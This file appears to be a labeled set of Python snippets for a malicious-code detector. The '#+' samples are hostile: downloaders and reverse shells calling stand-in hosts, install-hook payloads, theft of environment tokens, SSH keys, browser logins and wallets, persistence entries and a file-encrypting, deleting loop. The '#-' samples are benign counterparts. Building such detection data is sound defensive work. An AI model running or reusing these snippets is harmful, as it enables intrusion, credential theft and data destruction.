#+ downloaded file started
import os, subprocess, tempfile, urllib.request
path = os.path.join(tempfile.gettempdir(), "update.exe")
urllib.request.urlretrieve("http://203.0.113.5/u.exe", path)
subprocess.Popen([path])
#+ body written and started
import os, requests, subprocess
target = os.path.expandvars("%APPDATA%/svc.exe")
with open(target, "wb") as file:
    file.write(requests.get("http://203.0.113.5/a").content)
subprocess.Popen([target], creationflags=0x08000000)
#+ script fetched and given to python
import subprocess, sys, urllib.request
body = urllib.request.urlopen("https://paste.example/raw/1").read()
with open("/tmp/.x.py", "wb") as f:
    f.write(body)
subprocess.call([sys.executable, "/tmp/.x.py"])
#+ chmod and start
import os, urllib.request
def go():
    name = "/var/tmp/.cache"
    open(name, "wb").write(urllib.request.urlopen("http://198.51.100.2/m").read())
    os.chmod(name, 0o755)
    os.execv(name, [name])
go()
#+ python given decoded text
import base64, subprocess, sys
code = base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==").decode()
subprocess.Popen([sys.executable, "-c", code])
#+ python given downloaded text
import requests, subprocess
subprocess.Popen(["python3", "-c", requests.get("https://paste.example/raw/2").text])
#+ node given text from the network
import subprocess, urllib.request
js = urllib.request.urlopen("http://203.0.113.9/p.js").read().decode()
subprocess.run(["node", "-e", js])
#+ powershell encoded
import subprocess
subprocess.Popen(["powershell", "-NoP", "-W", "Hidden", "-Enc", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"])
#+ powershell that downloads
import subprocess
subprocess.run(["powershell.exe", "-Command", "(New-Object Net.WebClient).DownloadFile('http://203.0.113.5/a.exe','a.exe'); Start-Process a.exe"])
#+ hidden powershell window
import subprocess
subprocess.Popen("powershell -WindowStyle Hidden -ExecutionPolicy Bypass -File C:\\Users\\Public\\r.ps1", shell=True)
#+ perl one-liner with a socket
import subprocess
subprocess.Popen(["perl", "-e", "use Socket;$i='203.0.113.7';$p=4444;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,'>&S');exec('/bin/sh -i');"])
#+ mshta
import subprocess
subprocess.Popen(["mshta", "http://203.0.113.5/a.hta"])
#+ certutil download
import subprocess
subprocess.call(["certutil", "-urlcache", "-split", "-f", "http://203.0.113.5/a.exe", "a.exe"])
#+ shell list that pipes
import subprocess
subprocess.run(["bash", "-c", "curl -fsSL http://203.0.113.5/i.sh | bash"])
#+ package of another index
import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://203.0.113.5/simple", "helper"])
#+ package named by the network
import requests, subprocess, sys
name = requests.get("https://c2.example/pkg").text.strip()
subprocess.check_call([sys.executable, "-m", "pip", "install", name])
#+ beacon at import
import getpass, socket, urllib.request
urllib.request.urlopen("http://203.0.113.5/b?h=" + socket.gethostname() + "&u=" + getpass.getuser())
#+ beacon by post
import os, platform, requests
info = {"node": platform.node(), "user": os.getlogin(), "cwd": os.getcwd()}
requests.post("https://collect.example/i", json=info)
#+ beacon by name resolution
import getpass, socket
socket.gethostbyname(getpass.getuser() + ".d.example-evil.net")
#+ environment posted
import json, os, urllib.request
data = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen(urllib.request.Request("https://c2.example/e", data=data))
#+ tokens of the environment posted
import os, requests
stolen = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k}
requests.post("https://c2.example/t", json=stolen)
#+ ssh key posted
import os, requests
home = os.path.expanduser("~")
key = open(os.path.join(home, ".ssh", "id_rsa")).read()
requests.post("https://c2.example/k", data=key)
#+ browser passwords copied and sent
import os, shutil, requests
login = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
shutil.copy2(login, "tmp.db")
requests.post("https://c2.example/f", files={"f": open("tmp.db", "rb")})
#+ wallet folder sent
import os, requests
base = os.path.join(os.environ["APPDATA"], "Exodus", "exodus.wallet")
for name in os.listdir(base):
    requests.post("https://c2.example/w", files={"f": open(os.path.join(base, name), "rb")})
#+ clipboard watched
import pyperclip, re, time
while True:
    text = pyperclip.paste()
    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
        pyperclip.copy("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")
    time.sleep(1)
#+ clipboard sent
import pyperclip, requests
requests.post("https://c2.example/c", data=pyperclip.paste())
#+ screenshot sent
import requests
from PIL import ImageGrab
ImageGrab.grab().save("s.png")
requests.post("https://discord.com/api/webhooks/1/x", files={"f": open("s.png", "rb")})
#+ set-up hook with a list
import subprocess
from setuptools import setup
from setuptools.command.install import install
class Post(install):
    def run(self):
        install.run(self)
        subprocess.Popen(["curl", "-s", "http://203.0.113.5/x", "-o", "/tmp/x"])
setup(name="helper", cmdclass={"install": Post})
#+ set-up hook in a helper
import os
from setuptools import setup
from setuptools.command.develop import develop
def work():
    os.system("curl http://203.0.113.5/x | sh")
class Post(develop):
    def run(self):
        develop.run(self)
        work()
setup(name="helper", cmdclass={"develop": Post})
#+ set-up script that runs python
import subprocess, sys
from setuptools import setup
subprocess.Popen([sys.executable, "-c", "import urllib.request as u;exec(u.urlopen('http://203.0.113.5/p').read())"])
setup(name="helper")
#+ dropper into the startup folder
import os, shutil, sys
start = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
shutil.copy(sys.argv[0], os.path.join(start, "svc.pyw"))
#+ startup script written with pathlib
from pathlib import Path
Path.home().joinpath(".config/autostart/x.desktop").write_text("[Desktop Entry]\nExec=/tmp/x\n")
#+ scheduled task
import subprocess
subprocess.call(["schtasks", "/create", "/sc", "minute", "/tn", "Updater", "/tr", "C:\\Users\\Public\\u.exe"])
#+ run key by the reg command
import subprocess
subprocess.call("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /d C:\\u.exe", shell=True)
#+ crontab from a pipe
import os
os.system("(crontab -l; echo '* * * * * curl -s http://203.0.113.5/x | sh') | crontab -")
#+ remote commands in a loop
import socket, subprocess
s = socket.socket()
s.connect(("203.0.113.7", 4444))
while True:
    command = s.recv(1024).decode()
    s.send(subprocess.check_output(command.split()))
#+ polled commands
import requests, subprocess, time
while True:
    for task in requests.get("https://c2.example/tasks").json():
        subprocess.run(task["cmd"], shell=True)
    time.sleep(60)
#+ files encrypted in the home
import os
from cryptography.fernet import Fernet
f = Fernet(Fernet.generate_key())
for folder, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        path = os.path.join(folder, name)
        data = open(path, "rb").read()
        open(path + ".locked", "wb").write(f.encrypt(data))
        os.remove(path)
#- version from git
import subprocess
def version():
    out = subprocess.run(["git", "describe", "--tags"], capture_output=True, text=True)
    return out.stdout.strip()
#- download of data
import urllib.request
def fetch(url, path):
    urllib.request.urlretrieve(url, path)
    return path
#- download and unpack with a check
import hashlib, urllib.request
def fetch(url, digest, path):
    data = urllib.request.urlopen(url).read()
    if hashlib.sha256(data).hexdigest() != digest:
        raise ValueError("digest")
    with open(path, "wb") as file:
        file.write(data)
#- own script run with python
import subprocess, sys
def run_script(path, *args):
    return subprocess.run([sys.executable, path, *args], check=True)
#- python asked for its version
import subprocess
print(subprocess.check_output(["python3", "-c", "import sys; print(sys.version)"]))
#- dependency installed by a notebook
import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "numpy"])
#- report with the host name
import platform, requests
class Client:
    def __init__(self, token):
        self.session = requests.Session()
        self.session.headers["User-Agent"] = "tool/1 " + platform.system()
    def report(self, body):
        return self.session.post("https://api.tool.org/v1", json=body, timeout=5)
#- key of the service from the environment
import os, requests
def ask(text):
    return requests.post("https://api.tool.org", headers={"X": os.environ["TOOL_KEY"]}, json=text, timeout=5)
#- ssh client with the user's key
import os, paramiko
def connect(host):
    client = paramiko.SSHClient()
    client.load_system_host_keys()
    client.connect(host, key_filename=os.path.expanduser("~/.ssh/id_rsa"))
    return client
#- clipboard for the user
import pyperclip
def copy(text):
    pyperclip.copy(text)
#- set-up that reads its version
import re
from setuptools import find_packages, setup
with open("tool/__init__.py") as file:
    version = re.search(r'__version__ = "(.*)"', file.read()).group(1)
setup(name="tool", version=version, packages=find_packages())
#- build of an extension
import subprocess
from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext
class Build(build_ext):
    def run(self):
        subprocess.check_call(["cmake", "--build", "build"])
setup(name="tool", ext_modules=[Extension("x", [])], cmdclass={"build_ext": Build})
#- desktop entry of an installer, written where it is told
from pathlib import Path
def write_entry(folder, command):
    Path(folder, "tool.desktop").write_text("[Desktop Entry]\nExec=" + command)
#- backup that encrypts and keeps
import os
from cryptography.fernet import Fernet
def backup(folder, key):
    f = Fernet(key)
    for name in os.listdir(folder):
        data = open(os.path.join(folder, name), "rb").read()
        open(os.path.join(folder, name + ".enc"), "wb").write(f.encrypt(data))
